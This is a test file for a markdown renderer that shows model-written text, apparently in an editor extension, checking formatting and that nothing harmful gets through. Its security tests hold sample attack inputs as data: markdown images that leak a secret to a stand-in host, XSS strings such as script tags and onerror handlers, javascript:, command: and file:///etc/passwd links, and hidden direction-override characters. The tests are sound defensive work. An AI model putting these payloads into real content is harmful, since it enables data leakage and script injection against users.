import assert from 'node:assert/strict';
import fc from 'fast-check';
import { markdownRenderer } from '../../../src/writing/renderMarkdown.ts';

/** Every tag that may stand in the output, whole. Text cannot look like one: its `<` are escaped. */
const allowedTag = new RegExp(
  `^(?:${[
    '</?(?:p|em|strong|s|ul|li|blockquote|table|thead|tbody|tr|h3|h4|h5|h6|pre|code|span|div)>',
    '<(?:br|hr)>',
    '</?ol>',
    '<ol start="\\d{1,9}">',
    '</?t[hd](?: class="align-(?:center|right)")?>',
    '<div class="(?:table|plain)">',
    '<span class="(?:link|target|hidden-character)">',
    '<span class="(?:hljs-[a-z_ -]+|language-[a-z]+)">',
    '<pre data-language="[a-z0-9][a-z0-9+#.-]{0,19}">',
  ].join('|')})$`,
);

function assertOnlyAllowedTags(html: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) assert.match(tag, allowedTag);
}

/** What a person reads. */
function textOf(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')
    .trim();
}

describe('renderMarkdown', () => {
  const render = markdownRenderer();

  describe('shows what models write', () => {
    it('formats prose', () => {
      assert.equal(render('**a** *b* `c` ~~d~~'), '<p><strong>a</strong> <em>b</em> <code>c</code> <s>d</s></p>\n');
    });

    it('puts headings below the heading of the card', () => {
      assert.equal(render('# a\n\n## b\n\n### c'), '<h3>a</h3>\n<h4>b</h4>\n<h5>c</h5>\n');
    });

    it('leaves out no level of headings, however they are numbered', () => {
      const html = render('### a\n\n###### b\n\n###### c\n\n#### d\n\n## e\n\nf\n=');
      assert.equal(html, '<h3>a</h3>\n<h4>b</h4>\n<h4>c</h4>\n<h4>d</h4>\n<h3>e</h3>\n<h3>f</h3>\n');
      assert.equal(
        render(['#', '##', '###', '####', '#####', '######'].map((marks) => `${marks} a`).join('\n')).match(/<h6>/g)
          ?.length,
        3,
      );
    });

    it('keeps the first number of a list', () => {
      assert.match(render('7. a\n8. b'), /^<ol start="7">\n<li>a<\/li>/);
    });

    it('aligns table columns without a style', () => {
      const html = render('|a|b|c|\n|:-|:-:|-:|\n|1|2|3|');
      assert.match(html, /^<div class="table"><table>/);
      assert.match(html, /<td>1<\/td>\n<td class="align-center">2<\/td>\n<td class="align-right">3<\/td>/);
      assertOnlyAllowedTags(html);
    });

    it('colours code of a language it knows, by any of its names', () => {
      for (const language of ['ts', 'typescript', 'js', 'jsx']) {
        assert.match(render(`\`\`\`${language}\nconst a = 1;\n\`\`\``), /<span class="hljs-keyword">const<\/span>/);
      }
      for (const language of 'json python bash css html java c cpp csharp go rust sql yaml markdown diff'.split(' ')) {
        assert.match(render(`\`\`\`${language}\n# "a" <b> 1\n- {"c": 2}\n\`\`\``), /hljs-/, language);
      }
    });

    it('leaves code of other languages as it is', () => {
      assert.equal(
        render('```klingon\nif <a> & "b"\n```'),
        '<pre data-language="klingon"><code>if &lt;a&gt; &amp; &quot;b&quot;\n</code></pre>\n',
      );
    });

    it('shows a code block that has not ended yet', () => {
      assert.match(render('Look:\n\n```ts\nconst a'), /<pre data-language="ts"><code><span .*>const<\/span> a/);
    });

    it('colours the same block the same when it comes again', () => {
      const text = '```ts\nconst a = 1;\n```';
      assert.equal(render(text), render(text));
    });
  });

  describe('lets nothing out', () => {
    const images = [
      '![alt](https://evil.example/leak?q=secret)',
      '![alt](https://evil.example/leak "title")',
      '![alt](<https://evil.example/leak>)',
      '![alt][r]\n\n[r]: https://evil.example/leak',
      '![alt][]\n\n[alt]: https://evil.example/leak "title"',
      '![alt]\n\n[ALT]: <https://evil.example/leak>',
      '> ![alt][r]\n\n[r]:\nhttps://evil.example/leak',
      '| a |\n|---|\n| ![alt](//evil.example/leak) |',
      '![alt](data:image/svg+xml;base64,PHN2Zz4=)',
      '![alt](command:evil.run)',
      '![alt](vscode://evil.example/leak)',
      '![alt](./evil.example.png)',
      '![a*l*t](https://evil.example/leak)',
      '![![alt](https://evil.example/leak)](https://evil.example/more)',
      '![&#97;lt](https://evil.example/leak)',
    ];
    for (const text of images) {
      it(`replaces an image by its description: ${JSON.stringify(text)}`, () => {
        const html = render(text);
        assertOnlyAllowedTags(html);
        assert.match(textOf(html), /\[image: alt\]/);
        assert.doesNotMatch(html, /evil|data:|command:/);
      });
    }

    const links: [string, string][] = [
      ['[here](https://evil.example/leak?q=1 "https://good.example")', 'here (https://evil.example/leak?q=1)'],
      ['[here][r]\n\n[r]: http://evil.example/leak', 'here (http://evil.example/leak)'],
      ['[https://good.example](https://evil.example)', 'https://good.example (https://evil.example)'],
      ['[**here**](https://evil.example)', 'here (https://evil.example)'],
      ['[a@b.example](mailto:evil@evil.example)', 'a@b.example (mailto:evil@evil.example)'],
      ['[here](&#104;ttps://evil.example)', 'here (https://evil.example)'],
      ['[here](https://gооd.example)', 'here (https://xn--gd-fmca.example)'], // Cyrillic letters
      ['[![alt](https://evil.example/i)](https://evil.example/l)', '[image: alt] (https://evil.example/l)'],
      ['[](https://evil.example/l)', '(https://evil.example/l)'],
    ];
    for (const [text, shown] of links) {
      it(`shows where a link leads: ${JSON.stringify(text)}`, () => {
        const html = render(text);
        assertOnlyAllowedTags(html);
        assert.equal(textOf(html), shown);
        assert.match(html, /<span class="link">/);
      });
    }

    it('does not repeat a target that is the text', () => {
      assert.equal(textOf(render('<https://good.example/a>')), 'https://good.example/a');
      assert.equal(textOf(render('[https://good.example/a](https://good.example/a)')), 'https://good.example/a');
    });

    it('leaves bare addresses as text', () => {
      assert.equal(render('see https://good.example'), '<p>see https://good.example</p>\n');
    });

    for (const target of [
      'command:evil.run?%5B1%5D',
      'vscode://evil.ext/run',
      'vscode-insiders:x',
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html;base64,PHA+',
      'file:///etc/passwd',
      '//evil.example',
      'https:evil.example',
      'src/view.ts',
    ]) {
      it(`makes no link of ${target}`, () => {
        for (const text of [`[here](${target})`, `[here][r]\n\n[r]: ${target}`, `[here](<${target}>)`]) {
          const html = render(text);
          assertOnlyAllowedTags(html);
          assert.doesNotMatch(html, /class="link"/);
          assert.match(textOf(html), /^here \(/);
        }
      });
    }

    it('shows only the beginning of a long target that is no web address', () => {
      assert.ok(render(`[here](data:text/html,${'a'.repeat(5000)})`).length < 400);
    });

    for (const text of [
      '<img src=https://evil.example/leak>',
      '<img src=x onerror=alert(1)>',
      '<script>alert(1)</script>',
      '<a href="command:evil.run">here</a>',
      '<div style="background:url(https://evil.example)">',
      '<!-- <img src=x> -->',
      '<svg onload=alert(1)>',
      '<![CDATA[<img src=x>]]>',
      '`<img src=x>`',
      '    <img src=x>',
      '```html\n<img src=x onerror=alert(1)>\n```',
      '```"onmouseover="alert(1)\nx\n```',
      '```a" style="x\nx\n```',
      '&lt;img src=x&gt; &#60;img src=x&#62;',
      '\\<img src=x>',
      '[<img src=x>](https://good.example)',
      '![<img src=x>](https://good.example)',
      '[x](https://good.example/"onclick="alert(1))',
      "[x](https://good.example/ '\"><img src=x>')",
    ]) {
      it(`shows HTML as text: ${JSON.stringify(text)}`, () => assertOnlyAllowedTags(render(text)));
    }

    const fragment = fc.oneof(
      fc.constantFrom(
        ...[
          '![',
          '[',
          ']',
          '](',
          ')',
          '(',
          '<',
          '>',
          '"',
          "'",
          '`',
          '```',
          '~~~',
          '*',
          '_',
          '~~',
          '\n',
          '\n\n',
          '    ',
        ],
        ...['- ', '1. ', '> ', '# ', '|', '|-|\n', '\\', '&', '&lt;', '&#60;', '&#x202E;', '[r]', '[r]: ', '\t', '\0'],
        ...['<img src=x>', '<a href=x>', ' style="x"', ' onclick=x', 'https://e.example', 'data:x', 'command:x', ':-:'],
        ...['html', 'ts', 'css', '\u202E', '\u{E0041}', '\u200B', 'א', '👩‍💻', '<!--', '-->', '<?', ']]>', '\uD800'],
      ),
      fc.string({ unit: 'grapheme', maxLength: 5 }),
    );

    it('never makes another tag, whatever the text', () => {
      fc.assert(
        fc.property(fc.array(fragment, { maxLength: 30 }), (fragments) => {
          assertOnlyAllowedTags(render(fragments.join('')));
        }),
        { numRuns: 2000 },
      );
    });

    it('leaves no direction override, tag character or stray zero-width in place, whatever the text', () => {
      const hidden = /[\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF\u{E0000}-\u{E007F}]/u;
      const ascii = fc.constantFrom(...'ab1 \n`*[]()!<>&#|', '```js\n', '&#x200b;', '&#8238;', '\u202E', '\u2066');
      const unit = fc.oneof(ascii, fc.constantFrom('\u200B', '\u200D', '\u200E', '\u{E0041}', '\uFEFF'));
      fc.assert(
        fc.property(fc.array(unit, { maxLength: 40 }), (units) => {
          assert.doesNotMatch(render(units.join('')), hidden);
        }),
        { numRuns: 1000 },
      );
    });
  });

  it('makes hidden characters visible in prose, code and entities', () => {
    const badge = '<span class="hidden-character">[U+202E]</span>';
    assert.ok(render('a\u202Eb').includes(`a${badge}b`));
    assert.ok(render('a&#x202E;b').includes(`a${badge}b`));
    assert.ok(render('`a\u202Eb`').includes(`a${badge}b`));
    assert.ok(render('```js\n/* \u202E */\n```').includes(badge));
    assert.ok(render('![a\u202Eb](x)').includes(`[image: a${badge}b]`));
  });

  describe('takes any amount of text', () => {
    it('shows more than two million characters as plain text', () => {
      const html = render(`**a** <b>\u202E${'x'.repeat(2_000_000)}`);
      assert.ok(html.startsWith('<div class="plain">**a** &lt;b&gt;<span class="hidden-character">[U+202E]</span>xxx'));
    });

    const traps: Record<string, string> = {
      brackets: '['.repeat(50_000),
      'nested brackets': `${'['.repeat(25_000)}${']'.repeat(25_000)}`,
      images: '!['.repeat(25_000),
      emphasis: '*a _b **c '.repeat(5000),
      backticks: Array.from({ length: 300 }, (_, index) => '`'.repeat(index + 1)).join(' '),
      quotes: '> - '.repeat(12_000),
      'unclosed tags': '<a '.repeat(16_000),
      'unclosed links': '[a](b "'.repeat(7000),
      'a wide table': `${'|a'.repeat(5000)}\n${'|-'.repeat(5000)}\n${'|y|\n'.repeat(5000)}`,
      'hidden characters': '\u202E'.repeat(50_000),
    };
    for (const [name, text] of Object.entries(traps)) {
      // Each takes at most 0.3 s when it takes time in proportion; minutes when it does not.
      it(`takes time in proportion to the text: ${name}`, () => assertOnlyAllowedTags(render(text))).timeout(15_000);
    }
  });
});
